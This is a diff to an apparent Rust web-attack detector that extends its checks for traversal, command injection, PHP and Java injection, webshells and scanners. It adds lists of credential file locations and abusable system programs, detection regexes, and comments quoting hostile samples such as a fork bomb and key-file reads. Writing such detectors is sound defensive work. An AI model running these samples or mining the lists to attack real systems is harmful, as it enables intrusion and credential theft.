@@ -5,6 +5,30 @@
 
 /// Files whose names in a request mean local-file inclusion or disclosure.
 const SENSITIVE_FILES: &[&str] = &[
+    // System state and configuration an attacker reads first (Linux FHS,
+    // container and cloud credential locations).
+    "proc/sys/",
+    "proc/net/",
+    "etc/apache2/",
+    "etc/httpd/",
+    "etc/nginx/",
+    "etc/mysql/",
+    "etc/ssh/",
+    "etc/subuid",
+    "etc/subgid",
+    "etc/gshadow",
+    "etc/master.passwd",
+    "etc/resolv.conf",
+    "sys/class/",
+    "sys/kernel/",
+    "var/run/secrets/",
+    ".kube/config",
+    ".git-credentials",
+    ".pgpass",
+    "id_dsa",
+    "id_ecdsa",
+    "id_ed25519",
+    ".docker/config.json",
     "etc/passwd",
     "etc/shadow",
     "etc/group",
@@ -350,16 +374,515 @@ pub const COMMANDS: &[&str] = &[
     "tr",
 ];
 
-fn is_command(w: &str) -> bool {
+/// More Unix programs an attacker runs or abuses to read files, spawn a shell
+/// or move data: the GTFOBins catalogue of binaries with shell-escape,
+/// file-read or download functions, plus coreutils/util-linux and the
+/// compilers, interpreters and archivers found on servers. Derived from what
+/// the programs can do, not from any test set. Names that are also ordinary
+/// English words are in [`WEAK_COMMANDS`] instead.
+const MORE_COMMANDS: &[&str] = &[
+    "apt",
+    "apt-get",
+    "aria2c",
+    "arj",
+    "arp",
+    "ash",
+    "atobm",
+    "base32",
+    "base58",
+    "basenc",
+    "basez",
+    "bconsole",
+    "bpftrace",
+    "bridge",
+    "bsdtar",
+    "bundle",
+    "bundler",
+    "busctl",
+    "byebug",
+    "bzip2",
+    "bunzip2",
+    "bzcat",
+    "c89",
+    "c99",
+    "cabal",
+    "capsh",
+    "cdist",
+    "certbot",
+    "chattr",
+    "choom",
+    "chroot",
+    "clamscan",
+    "cmp",
+    "cobc",
+    "composer",
+    "cowsay",
+    "cowthink",
+    "cpan",
+    "cpio",
+    "cpulimit",
+    "csplit",
+    "csvtool",
+    "cupsfilter",
+    "dc",
+    "debugfs",
+    "distcc",
+    "dmesg",
+    "dmidecode",
+    "dmsetup",
+    "dnf",
+    "docker",
+    "dos2unix",
+    "dosbox",
+    "dotnet",
+    "dpkg",
+    "dstat",
+    "dvips",
+    "easy_install",
+    "eb",
+    "efax",
+    "elvish",
+    "emacs",
+    "enscript",
+    "eqn",
+    "espeak",
+    "exiftool",
+    "facter",
+    "fgrep",
+    "egrep",
+    "fish",
+    "fmt",
+    "fping",
+    "gawk",
+    "gcloud",
+    "gcore",
+    "gdb",
+    "gem",
+    "genisoimage",
+    "ghc",
+    "ghci",
+    "gimp",
+    "ginsh",
+    "git",
+    "grc",
+    "gtester",
+    "gunzip",
+    "gzip",
+    "hexdump",
+    "hping3",
+    "iconv",
+    "iftop",
+    "ionice",
+    "irb",
+    "ispell",
+    "jjs",
+    "jq",
+    "jrunscript",
+    "journalctl",
+    "julia",
+    "knife",
+    "ksshell",
+    "ksu",
+    "kubectl",
+    "latex",
+    "latexmk",
+    "ldconfig",
+    "lftp",
+    "loginctl",
+    "logsave",
+    "lp",
+    "ltrace",
+    "lualatex",
+    "luatex",
+    "lwp-download",
+    "lwp-request",
+    "lsof",
+    "lsattr",
+    "mawk",
+    "minicom",
+    "mosquitto",
+    "msfconsole",
+    "msgattrib",
+    "msgcat",
+    "msgconv",
+    "msgfilter",
+    "msgmerge",
+    "msguniq",
+    "mtr",
+    "multitime",
+    "mysql",
+    "mysqldump",
+    "nano",
+    "nasm",
+    "nawk",
+    "ncftp",
+    "neofetch",
+    "nft",
+    "nmcli",
+    "nroff",
+    "nsenter",
+    "ntpdate",
+    "octave",
+    "openvpn",
+    "openvt",
+    "opkg",
+    "pandoc",
+    "pdb",
+    "pdflatex",
+    "pdftex",
+    "perlbug",
+    "pexec",
+    "pidstat",
+    "pip",
+    "pip3",
+    "pkexec",
+    "pkill",
+    "killall",
+    "posh",
+    "pry",
+    "psftp",
+    "psql",
+    "ptx",
+    "puppet",
+    "pwsh",
+    "python2",
+    "rake",
+    "readelf",
+    "redcarpet",
+    "restic",
+    "rlogin",
+    "rlwrap",
+    "rpm",
+    "rpmdb",
+    "rpmquery",
+    "rpmverify",
+    "rsync",
+    "rtorrent",
+    "run-mailcap",
+    "run-parts",
+    "runscript",
+    "rview",
+    "rvim",
+    "sash",
+    "scanmem",
+    "scp",
+    "scrot",
+    "setarch",
+    "setfacl",
+    "setlock",
+    "sftp",
+    "shuf",
+    "slsh",
+    "smbclient",
+    "socat",
+    "soelim",
+    "softlimit",
+    "sqlite3",
+    "ssh",
+    "ssh-agent",
+    "ssh-keygen",
+    "ssh-keyscan",
+    "sshpass",
+    "start-stop-daemon",
+    "stdbuf",
+    "strace",
+    "sysctl",
+    "systemctl",
+    "systemd-run",
+    "taskset",
+    "tasksh",
+    "tcpdump",
+    "tdbtool",
+    "terraform",
+    "tmate",
+    "tmux",
+    "torify",
+    "torsocks",
+    "tshark",
+    "unexpand",
+    "unshare",
+    "unsquashfs",
+    "unzip",
+    "unxz",
+    "unlzma",
+    "unrar",
+    "update-alternatives",
+    "uudecode",
+    "uuencode",
+    "vagrant",
+    "valgrind",
+    "vi",
+    "vim",
+    "vimdiff",
+    "vigr",
+    "vipw",
+    "virsh",
+    "w3m",
+    "wc",
+    "whiptail",
+    "whois",
+    "wireshark",
+    "xdotool",
+    "xelatex",
+    "xetex",
+    "xmodmap",
+    "xmore",
+    "xpad",
+    "xz",
+    "xzcat",
+    "zcat",
+    "zstd",
+    "zstdcat",
+    "yarn",
+    "yash",
+    "yum",
+    "zathura",
+    "zip",
+    "zsoelim",
+    "zypper",
+    "gcc",
+    "g++",
+    "cc",
+    "clang",
+    "make",
+    "npm",
+    "npx",
+    "php-cgi",
+    "phpunit",
+    "lynx",
+    "links",
+    "elinks",
+    "ncat",
+    "nc.traditional",
+    "nc.openbsd",
+    "traceroute",
+    "tracert",
+    "host",
+    "arping",
+    "iptables",
+    "route",
+    "useradd",
+    "adduser",
+    "usermod",
+    "userdel",
+    "groupadd",
+    "visudo",
+    "chpasswd",
+    "chgrp",
+    "umask",
+    "mkfifo",
+    "mknod",
+    "getent",
+    "lsb_release",
+    "hostnamectl",
+    "ifup",
+    "ifdown",
+    "iwconfig",
+    "modprobe",
+    "insmod",
+    "lsmod",
+    "rmmod",
+    "shred",
+    "truncate",
+    "readlink",
+    "realpath",
+    "basename",
+    "dirname",
+    "md5sum",
+    "sha1sum",
+    "sha256sum",
+    "cksum",
+    "base64url",
+    "printf",
+    "alias",
+    "unalias",
+    "export",
+    "unset",
+    "source",
+    "bsdcat",
+    "7z",
+    "7za",
+    "rar",
+    "pax",
+    "ar",
+    "ld",
+    "objdump",
+    "nm",
+    "gdbserver",
+    "tclsh8.6",
+    "wish",
+    "expect",
+    "ed",
+    "ex",
+    "sqlplus",
+    "mongo",
+    "redis-cli",
+    "cd",
+    "tee",
+    "whoami",
+    "id",
+    "uname",
+    "nohup",
+    "python3.10",
+    "python3.11",
+    "python3.12",
+    "python2.7",
+    "perl5",
+    "ruby2",
+    "php7",
+    "php8",
+    "netsh",
+    "schtasks",
+    "at.exe",
+    "vssadmin",
+    "wevtutil",
+    "icacls",
+    "takeown",
+    "attrib",
+    "findstr",
+    "tasklist",
+    "taskkill",
+    "net1",
+    "nltest",
+    "dsquery",
+    "cipher",
+    "msiexec",
+    "installutil",
+    "regasm",
+    "regsvcs",
+    "msbuild",
+    "cmstp",
+    "forfiles",
+    "pcalua",
+    "bash.exe",
+    "wsl",
+    "powershell_ise",
+    "ipconfig",
+    "systeminfo",
+    "qwinsta",
+    "quser",
+    "whoami.exe",
+];
+
+/// Program names that are also everyday words (`time`, `more`, `sort`,
+/// `find`): they count as a command only when what follows reads as a
+/// command line (an option, a path, a redirect or the end of the value).
+const WEAK_COMMANDS: &[&str] = &[
+    "at", "cancel", "column", "comm", "crash", "cut", "date", "dialog", "diff", "expand", "file",
+    "find", "finger", "fold", "head", "install", "join", "look", "man", "more", "mount", "nice",
+    "pic", "pr", "red", "screen", "script", "service", "snap", "socket", "sort", "split", "task",
+    "time", "top", "view", "wall", "watch", "yelp", "less", "last", "kill", "start", "type", "dir",
+    "net", "rev", "ver", "vol", "sc", "reg", "set", "test", "tail", "w", "who", "as", "ip", "ss",
+    "hd", "ul", "rc", "sg", "mail", "touch", "command", "builtin", "md", "rd", "del", "copy",
+    "move", "ren", "call", "shift", "pushd", "popd", "title", "color", "cls", "tree", "print",
+    "format", "label", "links", "host", "make", "expect", "wish", "ed", "ex", "cc", "ar", "nm",
+    "source", "export", "alias", "route", "shred", "truncate",
+];
+
+/// Commands that run another command given as their arguments.
+const WRAPPERS: &[&str] = &[
+    "time",
+    "nice",
+    "env",
+    "nohup",
+    "timeout",
+    "sudo",
+    "xargs",
+    "strace",
+    "ltrace",
+    "stdbuf",
+    "ionice",
+    "taskset",
+    "chroot",
+    "busybox",
+    "exec",
+    "command",
+    "builtin",
+    "setsid",
+    "unshare",
+    "nsenter",
+    "cpulimit",
+    "flock",
+    "watch",
+    "multitime",
+    "setarch",
+    "torify",
+    "torsocks",
+    "su",
+    "doas",
+    "pkexec",
+    "sshpass",
+    "script",
+    "softlimit",
+    "setlock",
+    "start-stop-daemon",
+    "run-parts",
+    "systemd-run",
+    "firejail",
+    "proxychains",
+];
+
+/// Strong: [`COMMANDS`] and [`MORE_COMMANDS`] minus the weak ones; the new
+/// names of one or two letters (`cd`, `dc`, `ar`) are weak too: a user agent's
+/// `; CD 1;` list is not a shell.
+static STRONG_SET: std::sync::LazyLock<std::collections::HashSet<&'static str>> =
+    std::sync::LazyLock::new(|| {
+        COMMANDS
+            .iter()
+            .chain(MORE_COMMANDS.iter().filter(|c| c.len() > 2))
+            .copied()
+            .filter(|c| !WEAK_COMMANDS.contains(c))
+            .collect()
+    });
+
+static WEAK_SET: std::sync::LazyLock<std::collections::HashSet<&'static str>> =
+    std::sync::LazyLock::new(|| {
+        WEAK_COMMANDS
+            .iter()
+            .chain(MORE_COMMANDS.iter().filter(|c| c.len() <= 2))
+            .copied()
+            .collect()
+    });
+
+/// The program name of a command word: quotes and brackets trimmed, the
+/// directory and a Windows `.exe` dropped.
+fn command_base(w: &str) -> &str {
     let w = w.trim_matches(|c: char| c == '"' || c == '\'' || c == '`' || c == '(' || c == '{');
     let base = w.rsplit(['/', '\\']).next().unwrap_or(w);
-    let base = base.strip_suffix(".exe").unwrap_or(base);
-    !base.is_empty() && COMMANDS.contains(&base)
+    base.strip_suffix(".exe").unwrap_or(base)
+}
+
+/// Whether `w` names a program (strong or weak).
+fn is_command(w: &str) -> bool {
+    let base = command_base(w);
+    !base.is_empty() && (STRONG_SET.contains(base) || WEAK_SET.contains(base))
+}
+
+/// Whether `w` names a program that is not also an everyday word.
+fn is_strong_command(w: &str) -> bool {
+    let base = command_base(w);
+    !base.is_empty() && STRONG_SET.contains(base)
+}
+
+/// What follows a weak command word reads as a command line: nothing, an
+/// option (`-x`, `/x` on Windows), a path, a redirect, a pipe or a variable.
+fn command_line_tail(after: &str) -> bool {
+    let t = after.trim_start_matches([' ', '\t', '+']);
+    t.is_empty()
+        || t.starts_with([
+            '-', '/', '~', '.', '<', '>', '|', '$', '`', '"', '\'', '\n', ')', '}',
+        ])
+        || t.get(1..3) == Some(":\\")
+        || t.get(1..3) == Some(":/")
 }
 
 /// Shell de-obfuscation: quotes and backslashes inside words (`c\at`,
 /// `c''at`, `c"a"t`), `$@`, `${IFS}`/`$IFS$9` → space, `$()`-less globs.
 pub fn shell_fold(s: &str) -> String {
+    // Fast path: without these bytes there is nothing to fold (most values).
+    if !s.contains(['$', '\'', '"', '\\', '[']) {
+        return s.to_owned();
+    }
     let s = s
         .replace("${ifs}", " ")
         .replace("$ifs$9", " ")
@@ -371,22 +894,75 @@ pub fn shell_fold(s: &str) -> String {
         .replace("\\\n", "");
     let mut out = String::with_capacity(s.len());
     let b = s.as_bytes();
-    for (i, c) in s.char_indices() {
-        if c == '\\' && b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric()) {
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        // `c\at`: a backslash before a letter is nothing to the shell.
+        if c == b'\\' && b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric()) {
+            i += 1;
             continue;
         }
-        out.push(c);
+        if c == b'$' {
+            let prev_alnum = i > 0 && b[i - 1].is_ascii_alphanumeric();
+            match b.get(i + 1) {
+                // Special parameters inside a word expand to (almost) nothing:
+                // `c$!at`, `c$?at`, `c$-at`, `c$_at`, `c$0at`.
+                Some(b'!' | b'?' | b'-' | b'_' | b'#' | b'0'..=b'9') if prev_alnum => {
+                    i += 2;
+                    continue;
+                }
+                // An unset variable glued to a word: `uname$u`, `n$u\c$u`.
+                Some(n) if prev_alnum && n.is_ascii_alphabetic() => {
+                    let mut j = i + 1;
+                    while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
+                        j += 1;
+                    }
+                    if j - i <= 4 {
+                        i = j;
+                        continue;
+                    }
+                }
+                _ => {}
+            }
+        }
+        // A one-character glob class `[r]` matches only that character.
+        if c == b'['
+            && b.get(i + 2) == Some(&b']')
+            && b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric())
+        {
+            out.push(b[i + 1] as char);
+            i += 3;
+            continue;
+        }
+        // Every skip above is ASCII, so `i` is on a character boundary.
+        let Some(ch) = s.get(i..).and_then(|r| r.chars().next()) else {
+            break;
+        };
+        out.push(ch);
+        i += ch.len_utf8();
     }
     out
 }
 
 /// Path traversal / LFI on a decoded, lower-cased value.
 pub fn traversal(l: &str) -> Option<(f32, &'static str)> {
-    let norm = l.replace('\\', "/");
+    let norm: std::borrow::Cow<'_, str> = if l.contains('\\') {
+        std::borrow::Cow::Owned(l.replace('\\', "/"))
+    } else {
+        std::borrow::Cow::Borrowed(l)
+    };
     let dots = norm.matches("../").count()
         + norm.matches("/..").count() / 2
         + norm.matches("..;/").count();
-    let file = SENSITIVE_FILES.iter().find(|f| norm.contains(*f));
+    let files: Vec<&str> = SENSITIVE_AC
+        .as_ref()
+        .map(|a| {
+            a.find_overlapping_iter(norm.as_ref())
+                .filter_map(|m| SENSITIVE_FILES.get(m.pattern().as_usize()).copied())
+                .collect()
+        })
+        .unwrap_or_default();
+    let file = files.first();
     if dots >= 1 && file.is_some() {
         return Some((0.95, "traversal to sensitive file"));
     }
@@ -404,11 +980,26 @@ pub fn traversal(l: &str) -> Option<(f32, &'static str)> {
     {
         return Some((0.6, "../ at value start"));
     }
-    if let Some(f) = file {
-        // An absolute path to a system file given as a value (`?file=/etc/passwd`).
-        let abs =
-            norm.starts_with('/') || norm.get(1..3) == Some(":/") || norm.starts_with("file:");
-        if abs && !matches!(*f, "sam" | "/dev/" | "/bin/" | "~" | "config.php" | ".env") {
+    // Names too common in ordinary paths to count alone.
+    let strong = files
+        .iter()
+        .find(|f| !matches!(**f, "sam" | "/dev/" | "/bin/" | "~" | "config.php" | ".env"));
+    if let Some(f) = strong {
+        // An absolute path to a system file given as a value (`?file=/etc/passwd`)
+        // or as an argument inside it (`cat /root/.ssh/id_rsa`, `x;type c:/boot.ini`).
+        let abs_tok = |t: &str| {
+            t.starts_with('/')
+                || t.starts_with("~/")
+                || t.get(1..3) == Some(":/")
+                || t.starts_with("file:")
+        };
+        let abs = abs_tok(&norm)
+            || norm
+                .split([
+                    ' ', '\t', ';', '|', '&', '\'', '"', '(', '=', ',', '<', '>', '`',
+                ])
+                .any(|t| abs_tok(t) && t.contains(*f));
+        if abs {
             return Some((0.8, "absolute path to sensitive file"));
         }
     }
@@ -579,12 +1170,49 @@ pub fn url_param(
     out
 }
 
+static SHELL_FUNC: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(r"(?:^|[;&|\s])[\w.:-]{1,32}\s*\(\s*\)\s*\{").ok()
+});
+
+static WIN_FOR: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(
+        r#"(?:^|[;&|(@\s])for(?:\s+/[dlrf](?:\s+(?:"[^"]*"|[a-z]:[^\s]*|[^%\s]+))?)*\s+%%?[~\w@$]*\s+in\s*\(.*\)\s*do\b"#,
+    )
+    .ok()
+});
+
+static WIN_IF: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(
+        r#"(?:^|[;&|(@])\s*if(?:\s+/i)?(?:\s+not)?\s+(?:(?:exist|defined)\s+\S+\s+\S|errorlevel\s+\d+\s+\S|cmdextversion\s+\d|\S+\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*\S+\s+[(@a-z])"#,
+    )
+    .ok()
+});
+
 /// OS command injection on a decoded, lower-cased value.
 pub fn rce(l: &str) -> Option<(f32, &'static str)> {
     if l.contains("() {") && (l.contains(";") || l.contains("}")) {
         return Some((0.95, "shellshock function definition"));
     }
     let f = shell_fold(l);
+    // A shell function definition (`f(){ f|f& };f`, `:(){ :|:& };:`): name, `()`, `{`, body, `}`.
+    // (`function f() {` is JavaScript/PHP syntax: left to the XSS/PHP checks.)
+    if let Some(m) = SHELL_FUNC.as_ref().and_then(|r| r.find(&f))
+        && f[m.end()..].contains('}')
+        // Its body pipes, backgrounds or chains commands (a fork bomb, a
+        // payload), not just `echo hello`.
+        && f[m.end()..].contains(['|', '&', ';'])
+        && !f[..m.start() + 1].trim_end().ends_with("function")
+    {
+        return Some((0.9, "shell function definition"));
+    }
+    // cmd.exe control flow: `for [/d|/r …|/l|/f "…"] %%x in (…) do …`,
+    // `if [/i] [not] exist|defined|errorlevel …` and `if … ==|equ|neq|lss|gtr … command`.
+    if WIN_FOR.as_ref().is_some_and(|r| r.is_match(&f)) {
+        return Some((0.9, "cmd.exe for loop"));
+    }
+    if WIN_IF.as_ref().is_some_and(|r| r.is_match(&f)) {
+        return Some((0.8, "cmd.exe if statement"));
+    }
     // Command after a separator: ; | || && ` $( newline
     let b = f.as_bytes();
     let seps: &[&str] = &[";", "|", "&", "`", "$(", "\n", "\r", "${", "<(", ">("];
@@ -611,7 +1239,10 @@ pub fn rce(l: &str) -> Option<(f32, &'static str)> {
                         || matches!(c, '.' | '_' | '-' | '/' | '\\' | '?' | '*')
                 })
                 .collect();
-            if !word.is_empty() && is_command(&word) {
+            if !word.is_empty()
+                && (is_strong_command(&word)
+                    || is_command(&word) && command_line_tail(&rest[word.len()..]))
+            {
                 let after = &rest[word.len()..];
                 let args = after.is_empty()
                     || after.starts_with([
@@ -638,6 +1269,19 @@ pub fn rce(l: &str) -> Option<(f32, &'static str)> {
         .chars()
         .take_while(|c| !c.is_whitespace())
         .collect();
+    // A wrapper running a program: `time sh -c id`, `nice -n 5 nc …`, `env perl -e …`.
+    if WRAPPERS.contains(&command_base(&first)) {
+        let rest = f.trim_start()[first.len()..].trim_start();
+        let next = rest
+            .split_whitespace()
+            .find(|w| !w.starts_with('-') && !w.bytes().all(|c| c.is_ascii_digit()));
+        if next.is_some_and(|w| {
+            let after = rest.split_once(w).map(|x| x.1).unwrap_or("");
+            is_strong_command(w) || is_command(w) && command_line_tail(after)
+        }) {
+            return Some((0.8, "command run by a wrapper"));
+        }
+    }
     if is_command(&first) && first.len() > 1 {
         let rest = f.trim_start()[first.len()..].trim_start();
         if rest.starts_with('-') && rest.len() > 1 && (rest.contains(' ') || rest.len() < 4)
@@ -738,6 +1382,24 @@ const PHP_FUNCS: &[&str] = &[
     "exit",
 ];
 
+static PHP_VAR_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(
+        r#"(?:^|[^\w$])@?\$+[a-z_][a-z0-9_]{0,30}\s*(?:\[[^\]]{0,40}\]\s*)*\(\s*(?:\d|['"$)])"#,
+    )
+    .ok()
+});
+
+static PHP_DYN_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(r#"\(\s*(?:\(\s*string\s*\)\s*)?["']?[a-z_][a-z0-9_]*["']?(?:\s*\.\s*\(?\s*["']?[a-z0-9_]+["']?\s*\)?)*\s*\)\s*\(\s*["'$]"#).ok()
+});
+
+static PHP_VARVAR: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(
+        r#"\$\s*\{\s*(?:['"][^'"]*['"]\s*(?:\.\s*['"][^'"]*['"]\s*)*|\$[a-z_][a-z0-9_]*\s*)\}"#,
+    )
+    .ok()
+});
+
 /// PHP / code injection on a decoded, lower-cased value.
 pub fn php(l: &str) -> Option<(f32, &'static str)> {
     if l.contains("<?php") || l.contains("<?=") || (l.contains("<?") && l.contains("?>")) {
@@ -819,6 +1481,19 @@ pub fn php(l: &str) -> Option<(f32, &'static str)> {
                 return Some((0.85, "PHP function call"));
             }
         }
+    }
+    // A variable called as a function (`$a(1)`, `$$b(2)`, `@$__['o'](4)`): PHP
+    // grammar, `$name [ [index] ]* (`.
+    if PHP_VAR_CALL.as_ref().is_some_and(|r| r.is_match(l)) {
+        return Some((0.75, "PHP variable function call"));
+    }
+    // A string expression called as a function: `("sys"."tem")('id')`, `(system)('id')`.
+    if PHP_DYN_CALL.as_ref().is_some_and(|r| r.is_match(l)) {
+        return Some((0.75, "PHP dynamic function call"));
+    }
+    // Variable variables with a quoted or variable name: `${'a'}`, `$ {$b}`.
+    if PHP_VARVAR.as_ref().is_some_and(|r| r.is_match(l)) {
+        return Some((0.6, "PHP variable variable"));
     }
     // Variable functions: $x($y), ${…}
     if l.contains("$")
@@ -988,6 +1663,88 @@ pub fn java_b64_patterns() -> Vec<String> {
     pats
 }
 
+/// Java classes, methods and OGNL names of exploits (lower-case).
+const JAVA_NAMES: &[&str] = &[
+    "java.lang.runtime",
+    "java.lang.processbuilder",
+    "java.lang.system",
+    "java.lang.class",
+    "java.lang.reflect",
+    "java.io.file",
+    "java.net.url",
+    "java.net.socket",
+    "javax.script",
+    "javax.naming",
+    "getruntime(",
+    ".getruntime",
+    "processbuilder",
+    "classloader",
+    "getclass(",
+    "forname(",
+    "newinstance(",
+    "getmethod(",
+    "invoke(",
+    "org.apache.commons.collections",
+    "invokertransformer",
+    "chainedtransformer",
+    "constanttransformer",
+    "instantiatetransformer",
+    "templatesimpl",
+    "com.sun.org.apache",
+    "org.springframework",
+    "xalan",
+    "bsh.interpreter",
+    "groovy.lang",
+    "ognl",
+    "#_memberaccess",
+    "@ognl",
+    "#context",
+    "xwork",
+    "class.module.classloader",
+    "class.classloader",
+    "getruntime().exec",
+    "runtime.exec",
+    "t(java.",
+    "jdk.jshell",
+    "com.sun.rowset",
+    "jdbcrowsetimpl",
+    "c3p0",
+    "rmiconnector",
+    "jndiref",
+    "java.util.scanner",
+    "java.beans.xmldecoder",
+    "xmldecoder",
+    "<java",
+    "java.lang.",
+    "clonetransformer",
+    "forclosure",
+    "instantiatefactory",
+    "nativeinvoker",
+    "java.lang.thread",
+    "sun.misc",
+    "getdeclaredmethod",
+    "getdeclaredfield",
+    "setaccessible",
+];
+
+/// [`JAVA_NAMES`] in one automaton (each value was searched once per name).
+static JAVA_NAMES_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
+    std::sync::LazyLock::new(|| {
+        aho_corasick::AhoCorasick::builder()
+            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
+            .build(JAVA_NAMES)
+            .ok()
+    });
+
+/// [`SENSITIVE_FILES`] in one automaton.
+static SENSITIVE_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
+    std::sync::LazyLock::new(|| {
+        aho_corasick::AhoCorasick::builder()
+            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
+            .build(SENSITIVE_FILES)
+            .ok()
+    });
+
 /// Java attacks: JNDI lookups, deserialisation gadgets, OGNL/SpEL, class loading.
 pub fn java(raw: &str, l: &str) -> Option<(f32, &'static str)> {
     if l.contains("${") || l.contains("%24%7b") {
@@ -1024,71 +1781,8 @@ pub fn java(raw: &str, l: &str) -> Option<(f32, &'static str)> {
     {
         return Some((0.9, "Java serialized object"));
     }
-    for k in [
-        "java.lang.runtime",
-        "java.lang.processbuilder",
-        "java.lang.system",
-        "java.lang.class",
-        "java.lang.reflect",
-        "java.io.file",
-        "java.net.url",
-        "java.net.socket",
-        "javax.script",
-        "javax.naming",
-        "getruntime(",
-        ".getruntime",
-        "processbuilder",
-        "classloader",
-        "getclass(",
-        "forname(",
-        "newinstance(",
-        "getmethod(",
-        "invoke(",
-        "org.apache.commons.collections",
-        "invokertransformer",
-        "chainedtransformer",
-        "constanttransformer",
-        "instantiatetransformer",
-        "templatesimpl",
-        "com.sun.org.apache",
-        "org.springframework",
-        "xalan",
-        "bsh.interpreter",
-        "groovy.lang",
-        "ognl",
-        "#_memberaccess",
-        "@ognl",
-        "#context",
-        "xwork",
-        "class.module.classloader",
-        "class.classloader",
-        "getruntime().exec",
-        "runtime.exec",
-        "t(java.",
-        "jdk.jshell",
-        "com.sun.rowset",
-        "jdbcrowsetimpl",
-        "c3p0",
-        "rmiconnector",
-        "jndiref",
-        "java.util.scanner",
-        "java.beans.xmldecoder",
-        "xmldecoder",
-        "<java",
-        "java.lang.",
-        "clonetransformer",
-        "forclosure",
-        "instantiatefactory",
-        "nativeinvoker",
-        "java.lang.thread",
-        "sun.misc",
-        "getdeclaredmethod",
-        "getdeclaredfield",
-        "setaccessible",
-    ] {
-        if l.contains(k) {
-            return Some((0.85, "Java class or method"));
-        }
+    if JAVA_NAMES_AC.as_ref().is_some_and(|a| a.is_match(l)) {
+        return Some((0.85, "Java class or method"));
     }
     if (l.contains("%{") || l.contains("${"))
         && (l.contains("#") || l.contains("@java"))
@@ -1154,13 +1848,26 @@ pub fn webshell(path_l: &str, params: &[(String, String)]) -> Option<(f32, &'sta
     .any(|e| file.ends_with(e));
     // Names match whole words of the file name (`c99.php`, `wso_2.php`), not
     // substrings of hex ids (`b8c30404-…-8c99-…`).
-    let named = file.split(['-', '_', '.', ' ']).any(|w| {
-        WEBSHELLS
-            .iter()
-            .any(|n| w == *n || w.starts_with(n) && n.len() >= 4)
-    }) || WEBSHELLS
-        .iter()
-        .any(|n| n.contains(['.', '-']) && file.starts_with(n));
+    // Static files (`.js`, `.png`, …) are neither webshells nor commands' targets.
+    if !(script || file.is_empty() || !file.contains('.')) {
+        return None;
+    }
+    // A name matches a whole word of the file name, or starts a word when
+    // it has 4+ characters; names with `.`/`-` match the file name's start.
+    let fb = file.as_bytes();
+    let sep = |i: usize| i == 0 || matches!(fb.get(i - 1), Some(b'-' | b'_' | b'.' | b' '));
+    let named = WEBSHELL_AC.as_ref().is_some_and(|a| {
+        a.find_overlapping_iter(file).any(|m| {
+            let n = WEBSHELLS.get(m.pattern().as_usize()).copied().unwrap_or("");
+            let word_end =
+                m.end() == fb.len() || matches!(fb.get(m.end()), Some(b'-' | b'_' | b'.' | b' '));
+            if n.contains(['.', '-']) {
+                m.start() == 0 || sep(m.start()) && (word_end || n.len() >= 4)
+            } else {
+                sep(m.start()) && (word_end || n.len() >= 4)
+            }
+        })
+    });
     if named && (script || !file.contains('.')) {
         return Some((0.85, "known webshell name"));
     }
@@ -1190,17 +1897,53 @@ pub fn webshell(path_l: &str, params: &[(String, String)]) -> Option<(f32, &'sta
     None
 }
 
-/// Scanner signals of one request: a tool's user agent or a sensitive-path probe.
-pub fn scanner(ua_l: Option<&str>, path_l: &str) -> Option<(f32, &'static str)> {
-    if let Some(ua) = ua_l
-        && let Some(_) = SCANNER_UA.iter().find(|t| ua.contains(*t))
-    {
+fn ac(pats: &[&str]) -> Option<aho_corasick::AhoCorasick> {
+    aho_corasick::AhoCorasick::builder()
+        .ascii_case_insensitive(true)
+        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
+        .build(pats)
+        .ok()
+}
+
+/// One automaton per list: a line's user agent and path are each scanned
+/// once instead of once per list entry (this was a quarter of the run time).
+static SCANNER_UA_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
+    std::sync::LazyLock::new(|| ac(SCANNER_UA));
+static SECRET_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
+    std::sync::LazyLock::new(|| ac(SECRET_PATHS));
+/// Probe paths matched anywhere (the others are suffixes).
+static PROBE_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
+    std::sync::LazyLock::new(|| {
+        let v: Vec<&str> = PROBE_PATHS
+            .iter()
+            .copied()
+            .filter(|p| !(p.starts_with('.') || *p == "~"))
+            .collect();
+        ac(&v)
+    });
+
+static WEBSHELL_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
+    std::sync::LazyLock::new(|| {
+        aho_corasick::AhoCorasick::builder()
+            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
+            .build(WEBSHELLS)
+            .ok()
+    });
+
+/// Whether a tool's user agent (any case).
+pub fn scanner_ua(ua: &str) -> bool {
+    SCANNER_UA_AC.as_ref().is_some_and(|a| a.is_match(ua))
+}
+
+/// Scanner signals of one request: a tool's user agent (any case) or a sensitive-path probe.
+pub fn scanner(ua: Option<&str>, path_l: &str) -> Option<(f32, &'static str)> {
+    if ua.is_some_and(scanner_ua) {
         return Some((0.9, "scanner user agent"));
     }
     // One request for a secret file is a probe; the other probe paths
     // (`/cgi-bin/`, `/shell…`, `.bak`) also name real pages, so alone they
     // stay under the flag threshold and count only in a burst of 404s.
-    if SECRET_PATHS.iter().any(|p| path_l.contains(p)) {
+    if SECRET_AC.as_ref().is_some_and(|a| a.is_match(path_l)) {
         return Some((0.6, "secret file probe"));
     }
     if probe_path(path_l) {
@@ -1226,13 +1969,11 @@ const SECRET_PATHS: &[&str] = &[
 
